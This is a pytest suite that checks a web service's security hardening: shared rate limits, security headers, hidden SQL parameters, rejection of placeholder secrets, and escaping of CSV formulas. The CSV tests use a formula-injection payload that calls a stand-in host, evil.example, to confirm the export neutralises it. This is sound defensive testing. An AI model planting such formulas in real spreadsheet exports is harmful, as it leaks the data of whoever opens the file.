"""Hardening: where rate limits are counted, CSV formulas, security headers, hidden SQL
parameters, example secrets, the demo's refusal of a used store, and the console's ?at= wait."""

from __future__ import annotations

import csv
import io
import logging
import re
import shutil
import subprocess
import time
import uuid
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import sqlalchemy as sa
import yaml
from click.testing import CliRunner
from flask import Flask

from service.api.csv_export import safe_cell
from service.api.headers import script_hashes
from service.app import close_app
from service.cli import main as cli
from service.config import ConfigError, Settings
from service.infrastructure import ratelimits
from service.infrastructure.runtime import runtime
from tests.conftest import FAST_HASHING, IN_CI, REDIS_URL
from tests.e2e.test_serve import free_port
from tests.service.conftest import (
    ADMIN_EMAIL,
    PASSWORD,
    World,
    browser,
    ok,
    other_process,
    problem,
    proposal,
)

ROOT = Path(__file__).resolve().parents[2]


def limit_logs(caplog: pytest.LogCaptureFixture) -> list[logging.LogRecord]:
    return [r for r in caplog.records if r.name == "twinning.limits"]


def login(app: Flask, password: str = "not the password") -> int:
    body = {"email": ADMIN_EMAIL, "password": password}
    return app.test_client().post("/api/v1/auth/tokens", json=body).status_code


# ------------------------------------------------------------------ 1. rate-limit storage
def test_per_process_limits_are_announced_at_start(
    backend: dict[str, Any], caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.WARNING, "twinning.limits")
    app = other_process(backend)
    close_app(app)
    [warning] = limit_logs(caplog)
    assert warning.levelno == logging.WARNING
    assert "counted per process" in warning.getMessage()
    assert "TWINNING_RATE_LIMIT_STORAGE=redis://" in warning.getMessage()
    caplog.clear()
    app = other_process(backend, login_limit_per_email="", login_limit_per_address="")
    close_app(app)
    assert limit_logs(caplog) == []  # no limits, nothing to say


def test_an_unreachable_redis_falls_back_to_per_process_limits_loudly(
    backend: dict[str, Any], caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.WARNING, "twinning.limits")
    nowhere = f"redis://:a-redis-secret@127.0.0.1:{free_port()}/0"
    app = other_process(backend, rate_limit_storage=nowhere, login_limit_per_email="3/minute")
    try:
        [error] = limit_logs(caplog)
        assert error.levelno == logging.ERROR
        assert "does not answer" in error.getMessage() and "per process" in error.getMessage()
        assert "a-redis-secret" not in error.getMessage()
        started = time.monotonic()
        assert [login(app) for _ in range(4)] == [401, 401, 401, 429]  # still limited
        assert time.monotonic() - started < 5  # nobody waits on the missing Redis
    finally:
        close_app(app)


NO_DISK = ("--save", "", "--appendonly", "no")


class OwnRedis:
    """A Redis of the test's own on a free port, stopped and started again by its PID."""

    def __init__(self, binary: str) -> None:
        self.binary = binary
        self.port = free_port()
        self.url = f"redis://127.0.0.1:{self.port}/0"
        self.server: subprocess.Popen[bytes] | None = None

    def start(self) -> None:
        import redis

        self.server = subprocess.Popen(
            [self.binary, "--port", str(self.port), "--bind", "127.0.0.1", *NO_DISK],
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
        )
        deadline = time.monotonic() + 10
        while True:
            try:
                redis.Redis.from_url(self.url, socket_connect_timeout=1).ping()
                return
            except redis.RedisError:
                assert time.monotonic() < deadline, "redis-server did not start in 10 s"
                time.sleep(0.1)

    def stop(self) -> None:
        if self.server is not None:
            self.server.kill()
            self.server.wait(timeout=10)
            self.server = None


@pytest.fixture
def own_redis() -> Iterator[OwnRedis]:
    binary = shutil.which("redis-server")
    if binary is None:
        if IN_CI:
            pytest.fail("redis-server is not installed: CI must run this")
        pytest.skip("redis-server is not installed")
    server = OwnRedis(binary)
    server.start()
    try:
        yield server
    finally:
        server.stop()


def test_redis_going_away_falls_back_to_per_process_limits_and_back(
    backend: dict[str, Any], own_redis: OwnRedis, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.WARNING, "twinning.limits")
    app = other_process(backend, rate_limit_storage=own_redis.url, login_limit_per_email="3/minute")
    try:
        assert [login(app), login(app)] == [401, 401]  # counted in Redis
        assert limit_logs(caplog) == []
        own_redis.stop()
        started = time.monotonic()
        # Per process from now on: a fresh budget of 3, then 429.
        assert [login(app) for _ in range(4)] == [401, 401, 401, 429]
        assert time.monotonic() - started < 5
        errors = [r for r in limit_logs(caplog) if r.levelno == logging.ERROR]
        assert len(errors) == 1 and "counted per process" in errors[0].getMessage()
        own_redis.start()  # empty: its counters went with the old one
        time.sleep(ratelimits.RETRY_SECONDS + 0.2)
        # Back on Redis (the per-process window would refuse at once).
        assert [login(app) for _ in range(4)] == [401, 401, 401, 429]
    finally:
        close_app(app)


def test_two_processes_on_one_redis_share_the_login_budget(
    backend: dict[str, Any], redis_prefix: str, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.WARNING, "twinning.limits")
    settings = {
        "rate_limit_storage": REDIS_URL,
        "rate_limit_prefix": redis_prefix,
        "login_limit_per_email": "4/minute",
    }
    first, second = other_process(backend, **settings), other_process(backend, **settings)
    try:
        assert [login(first), login(second), login(first), login(second)] == [401] * 4
        assert login(second) == 429 and login(first) == 429
        assert limit_logs(caplog) == []  # shared: no warning
    finally:
        close_app(first)
        close_app(second)


def test_the_global_limit_is_shared_through_redis_too(
    backend: dict[str, Any], redis_prefix: str
) -> None:
    settings = {
        "rate_limit_storage": REDIS_URL,
        "rate_limit_prefix": redis_prefix,
        "rate_limit": "5/minute",
    }
    first, second = other_process(backend, **settings), other_process(backend, **settings)
    try:
        statuses = [
            app.test_client().get("/api/v1/good-practices").status_code
            for app in (first, second, first, second, first, second)
        ]
        assert statuses == [200] * 5 + [429]
    finally:
        close_app(first)
        close_app(second)


@pytest.mark.parametrize(
    ("environ", "message"),
    [
        ({"TWINNING_RATE_LIMIT_PREFIX": "has spaces"}, "TWINNING_RATE_LIMIT_PREFIX"),
        ({"TWINNING_RATE_LIMIT_PREFIX": ""}, "TWINNING_RATE_LIMIT_PREFIX"),
    ],
)
def test_the_limit_prefix_is_validated(environ: dict[str, str], message: str) -> None:
    with pytest.raises(ConfigError, match=message):
        Settings.from_env(environ=environ)


# ------------------------------------------------------------------ 2. CSV formulas
@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_cell_that_could_be_a_formula_is_text(start: str) -> None:
    assert safe_cell(f"{start}1+1") == f"'{start}1+1"


def test_other_cells_are_left_alone() -> None:
    assert [safe_cell(v) for v in ("Funding.", "1-2", "", None, -3, 4.5)] == [
        "Funding.",
        "1-2",
        "",
        None,
        -3,
        4.5,
    ]


HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A2,"open")'


def test_a_withdrawal_reason_cannot_become_a_formula_in_the_csv(world: World) -> None:
    lead = world.partner()
    auditor = world.account(None, "auditor")
    initiative = world.propose(lead)
    path = f"/api/v1/initiatives/{initiative['id']}"
    ok(lead.post(f"{path}/withdraw", {"reason": HYPERLINK}, version=initiative["version"]))
    world.project()
    query = {"initiative_id": initiative["id"]}
    api = auditor.get("/api/v1/audit/entries", headers={"Accept": "text/csv"}, query_string=query)
    assert api.status_code == 200 and api.mimetype == "text/csv"
    rows = list(csv.reader(io.StringIO(api.get_data(as_text=True))))
    [withdrawn] = [row for row in rows if row[6] == "Withdrawn"]
    assert withdrawn[11] == "'" + HYPERLINK
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
    page = browser(world, auditor).get("/console/audit.csv", query_string=query)
    assert page.status_code == 200
    assert page.get_data(as_text=True) == api.get_data(as_text=True)  # one writer for both


# ------------------------------------------------------------------ 3. headers
def test_authenticated_responses_are_not_stored(world: World) -> None:
    answer = world.admin.get("/api/v1/themes")
    assert answer.status_code == 200 and answer.headers["Cache-Control"] == "no-store"
    refused = world.admin.get(f"/api/v1/initiatives/{uuid.uuid4()}")
    assert refused.status_code == 404 and refused.headers["Cache-Control"] == "no-store"
    issued = world.http.post(
        "/api/v1/auth/tokens", json={"email": ADMIN_EMAIL, "password": PASSWORD}
    )
    assert issued.status_code == 201 and issued.headers["Cache-Control"] == "no-store"
    public = world.anonymous.get("/api/v1/good-practices")
    assert public.status_code == 200 and "Cache-Control" not in public.headers
    # The same files for everyone, whoever asks: caches may keep them.
    asset = world.admin.get("/api/docs/static/swagger-ui.css")
    assert asset.status_code == 200 and asset.headers.get("Cache-Control") != "no-store"


def test_hsts_over_https_only(world: World) -> None:
    assert "Strict-Transport-Security" not in world.http.get("/healthz").headers
    direct = world.http.get("/healthz", base_url="https://twinning.example")
    assert direct.headers["Strict-Transport-Security"].startswith("max-age=31536000")
    # No trusted proxy (the default): anyone may send X-Forwarded-Proto; it is ignored.
    forged = world.http.get("/healthz", headers={"X-Forwarded-Proto": "https"})
    assert "Strict-Transport-Security" not in forged.headers


def test_hsts_behind_a_trusted_proxy_that_says_https(backend: dict[str, Any]) -> None:
    app = other_process(backend, trusted_proxies=1)
    try:
        http = app.test_client()
        forwarded = http.get("/healthz", headers={"X-Forwarded-Proto": "https"})
        assert "max-age=" in forwarded.headers["Strict-Transport-Security"]
        plain = http.get("/healthz", headers={"X-Forwarded-Proto": "http"})
        assert "Strict-Transport-Security" not in plain.headers
    finally:
        close_app(app)


def test_the_docs_page_has_a_csp_that_lets_its_own_assets_load(world: World) -> None:
    page = world.anonymous.get("/api/docs")
    assert page.status_code == 200
    csp = dict(
        [*part.strip().split(" ", 1), ""][:2]
        for part in page.headers["Content-Security-Policy"].split(";")
    )
    html = page.get_data()
    inline = re.findall(rb"<script>(.*?)</script>", html, re.S)
    assert len(inline) == 1
    assert script_hashes(html) in csp["script-src"]  # its one inline script may run
    assert "'unsafe-inline'" not in csp["script-src"] and "'unsafe-eval'" not in csp["script-src"]
    assert csp["default-src"] == "'self'" and csp["frame-ancestors"] == "'none'"
    assets = re.findall(rb'(?:src|href)="([^"]+)"', html)
    assert len(assets) == 3
    for asset in assets:  # same origin ('self'), and there
        assert asset.startswith(b"/"), asset
        assert world.anonymous.get(asset.decode()).status_code == 200
    assert b"validator.swagger.io" not in html  # nothing fetched from elsewhere
    assert b'"url": "/api/v1/openapi.json"' in html or b'url: "/api/v1/openapi.json"' in html


# ------------------------------------------------------------------ 4. hidden parameters
def test_database_errors_never_show_bound_parameters(
    world: World, caplog: pytest.LogCaptureFixture
) -> None:
    secret = "someone.private@example.eu"
    engine = runtime(world.app).engine
    with pytest.raises(sa.exc.DBAPIError) as raised, engine.connect() as conn:
        conn.execute(sa.text("SELECT * FROM no_such_table WHERE email = :email"), {"email": secret})
    assert secret not in str(raised.value)
    assert "hidden due to hide_parameters=True" in str(raised.value)


# ------------------------------------------------------------------ 5. example secrets
def example_secrets() -> dict[str, str]:
    found = {}
    for line in (ROOT / "deploy" / "twinning.env.example").read_text().splitlines():
        name, _, value = line.partition("=")
        if "change-me" in value:
            found[name] = value
    secret = yaml.safe_load((ROOT / "deploy" / "kubernetes" / "secret.example.yaml").read_text())
    for name, value in secret["stringData"].items():
        if "change-me" in str(value):
            found[f"{name} (Kubernetes)"] = value
    return found


def test_the_examples_secrets_are_refused_at_start() -> None:
    secrets = example_secrets()
    keys = ("TWINNING_SECRET_KEY", "TWINNING_MASTER_KEY")
    assert set(secrets) == {
        "TWINNING_ADMIN_PASSWORD",
        "TWINNING_METRICS_TOKEN",
        *keys,
        "TWINNING_ADMIN_PASSWORD (Kubernetes)",
        "TWINNING_METRICS_TOKEN (Kubernetes)",
        "TWINNING_DATABASE_URL (Kubernetes)",
        *(f"{key} (Kubernetes)" for key in keys),
    }
    for key, value in secrets.items():
        name = key.split()[0]
        environ = {name: value}
        if name == "TWINNING_ADMIN_PASSWORD":
            environ["TWINNING_ADMIN_EMAIL"] = "admin@example.eu"
        with pytest.raises(ConfigError) as raised:
            Settings.from_env(environ=environ)
        assert str(raised.value).startswith(name)
        assert "is still the example's placeholder" in str(raised.value)
        assert value not in str(raised.value)  # the message names it, never repeats it


def test_a_real_secret_is_taken() -> None:
    settings = Settings.from_env(
        environ={
            "TWINNING_ADMIN_EMAIL": "admin@example.eu",
            "TWINNING_ADMIN_PASSWORD": "a passphrase of our own",
            "TWINNING_METRICS_TOKEN": "0f3c9a8e7d6b5a4c3b2a1f0e",
        }
    )
    assert settings.admin_password == "a passphrase of our own"


# ------------------------------------------------------------------ 6. demo
def test_the_demo_refuses_a_store_with_events_unless_forced(tmp_path: Path) -> None:
    env = {
        "TWINNING_DATA_DIR": str(tmp_path / "var"),
        "TWINNING_DATABASE_URL": "",
        "TWINNING_ARGON2_TIME_COST": str(FAST_HASHING["argon2_time_cost"]),
        "TWINNING_ARGON2_MEMORY_KIB": str(FAST_HASHING["argon2_memory_kib"]),
        "TWINNING_LOG_LEVEL": "WARNING",
    }
    runner = CliRunner()
    made = runner.invoke(
        cli, ["create-admin", "--email", "a@b.eu", "--password", "x" * 12], env=env
    )
    assert made.exit_code == 0, made.output
    refused = runner.invoke(cli, ["demo"], env=env)
    assert refused.exit_code == 1
    assert refused.stdout == ""
    [line] = refused.stderr.splitlines()
    assert line.startswith("twinning: ") and "--force" in line
    assert re.search(r"already holds [1-9][0-9]* events", line)
    forced = runner.invoke(cli, ["demo", "--force"], env=env)
    assert forced.exit_code == 0, forced.stderr
    assert forced.stdout.startswith("demo loaded:")


def test_the_demo_loads_into_an_empty_store_without_force(tmp_path: Path) -> None:
    env = {
        "TWINNING_DATA_DIR": str(tmp_path / "var"),
        "TWINNING_DATABASE_URL": "",
        "TWINNING_ARGON2_TIME_COST": "1",
        "TWINNING_ARGON2_MEMORY_KIB": "1024",
        "TWINNING_LOG_LEVEL": "WARNING",
    }
    loaded = CliRunner().invoke(cli, ["demo"], env=env)
    assert loaded.exit_code == 0, loaded.stderr
    again = CliRunner().invoke(cli, ["demo"], env=env)
    assert again.exit_code == 1 and len(again.stderr.splitlines()) == 1


# ------------------------------------------------------------------ 7. ?at=
@pytest.mark.parametrize(
    "at",
    [
        "999999999999999999",  # beyond the last event: nothing to wait for
        "99999999999999999999999999",  # too long
        "-5",
        "1e9",
        "²",  # a digit to str.isdigit(), not to int()
        "١٢",  # Arabic-Indic digits
        " 3",
        "",
    ],
)
def test_the_consoles_at_wait_is_bounded(world: World, at: str) -> None:
    person = browser(world, world.partner())
    for path in ("/console/", "/console/initiatives"):
        started = time.monotonic()
        page = person.get(path, query_string={"at": at})
        assert page.status_code == 200, page.get_data(as_text=True)
        assert time.monotonic() - started < 1.0, path


def test_the_consoles_at_wait_for_a_recorded_position_ends_in_2_s(world: World) -> None:
    lead = world.partner()
    person = browser(world, lead)
    created = lead.post("/api/v1/initiatives", proposal(title={"en": "Hardening walk"}))
    position = created.headers["X-Position"]
    # No projector runs in this process: the views never reach it, the wait gives up.
    started = time.monotonic()
    page = person.get("/console/initiatives", query_string={"at": position})
    waited = time.monotonic() - started
    assert page.status_code == 200 and 1.8 < waited < 3.5
    assert "Hardening walk" not in page.get_data(as_text=True)
    world.project()
    started = time.monotonic()
    page = person.get("/console/initiatives", query_string={"at": position})
    assert time.monotonic() - started < 1.0
    assert "Hardening walk" in page.get_data(as_text=True)


def test_x_min_position_refuses_digits_int_cannot_read(world: World) -> None:
    answer = world.admin.get("/api/v1/initiatives", headers={"X-Min-Position": "\u00b2"})
    problem(answer, 400)
